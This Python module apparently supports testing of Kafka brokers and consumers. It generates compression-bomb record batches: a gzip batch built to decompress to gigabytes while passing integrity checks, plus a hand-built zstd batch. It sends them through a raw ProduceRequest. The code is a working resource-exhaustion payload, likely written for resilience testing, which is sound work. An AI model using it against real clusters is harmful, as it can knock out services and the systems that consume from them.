"""Compression bombs as an attacker's client sends them: raw Kafka record batches (format v2) whose
compressed body is small and whose records decode to a GiB, produced with a plain ProduceRequest.

A gzip bomb of 1 GiB is built in about a second and a few MB of memory: each 1 MiB of zeros is
deflated once after a full flush (which resets the compressor, so every further MiB deflates to the
same bytes) and repeated; the gzip trailer's CRC-32 and length are computed over the real content,
so the broker, which decodes the batch to validate it, accepts it as sound.
"""

from __future__ import annotations

import struct
import time
import zlib

from aiokafka import AIOKafkaClient, TopicPartition
from aiokafka.protocol.produce import ProduceRequest
from aiokafka.record.util import calc_crc32c, encode_varint

from schemas.connection import KafkaConnection

__all__ = ["gzip_bomb", "produce_batch", "zstd_batch"]

_HEADER = struct.Struct(">qiibIhiqqqhii")  # the v2 batch header (aiokafka's DefaultRecordBase)
_GZIP, _ZSTD = 1, 4
_MIB = 1024 * 1024


def _varint(n: int) -> bytes:
    out = bytearray()
    encode_varint(n, out.append)
    return bytes(out)


def _record_head(offset_delta: int, value_size: int) -> tuple[bytes, bytes]:
    """A record's bytes before its value and after it (no key, no headers)."""
    body = b"\x00" + _varint(0) + _varint(offset_delta) + _varint(-1) + _varint(value_size)
    tail = _varint(0)
    return _varint(len(body) + value_size + len(tail)) + body, tail


def _batch(codec: int, count: int, body: bytes) -> bytes:
    now = int(time.time() * 1000)
    buf = bytearray(_HEADER.size) + body
    _HEADER.pack_into(buf, 0, 0, len(buf) - 12, -1, 2, 0, codec, count - 1, now, now, -1, -1, -1, count)
    struct.pack_into(">I", buf, 17, calc_crc32c(bytes(buf[21:])))
    return bytes(buf)


def gzip_bomb(records: int, value_mib: int) -> bytes:
    """One gzip batch of ``records`` records of ``value_mib`` MiB of zeros each."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)  # raw deflate; the gzip framing is ours
    zeros = bytes(_MIB)
    mib = b""
    out, crc, size = [b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"], 0, 0
    for i in range(records):
        head, tail = _record_head(i, value_mib * _MIB)
        out.append(deflate.compress(head) + deflate.flush(zlib.Z_FULL_FLUSH))
        crc, size = zlib.crc32(head, crc), size + len(head)
        if not mib:
            mib = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
        for _ in range(value_mib):
            out.append(mib)
            crc = zlib.crc32(zeros, crc)
        size += value_mib * _MIB
        out.append(deflate.compress(tail) + deflate.flush(zlib.Z_FULL_FLUSH))
        crc, size = zlib.crc32(tail, crc), size + len(tail)
    out.append(deflate.flush())
    out.append(struct.pack("<II", crc, size & 0xFFFFFFFF))
    return _batch(_GZIP, records, b"".join(out))


def zstd_batch(value: bytes) -> bytes:
    """One zstd batch of one record: a valid zstd frame of a single raw (stored) block."""
    head, tail = _record_head(0, len(value))
    content = head + value + tail
    assert len(content) <= 128 * 1024  # what one raw block may hold
    # frame header: single segment, 4-byte content size; block header: last block, raw, its size
    frame = struct.pack("<IB", 0xFD2FB528, 0xA0) + struct.pack("<I", len(content))
    block = ((len(content) << 3) | 1).to_bytes(3, "little")
    return _batch(_ZSTD, 1, frame + block + content)


async def produce_batch(kafka: KafkaConnection, topic: str, partition: int, batch: bytes) -> int:
    """Send ``batch`` as it is; the broker's error code for the partition (0: stored)."""
    client = AIOKafkaClient(**kafka.client_kwargs())
    await client.bootstrap()
    try:
        metadata = await client.fetch_all_metadata()
        leader = metadata.leader_for_partition(TopicPartition(topic, partition))
        assert leader is not None, f"{topic}[{partition}] has no leader"
        request = ProduceRequest(None, -1, 30_000, [(topic, [(partition, batch)])])  # acks=all, 30 s
        response = await client.send(leader, request)
        [(_, [part])] = response.topics
        return int(part[1])
    finally:
        await client.close()
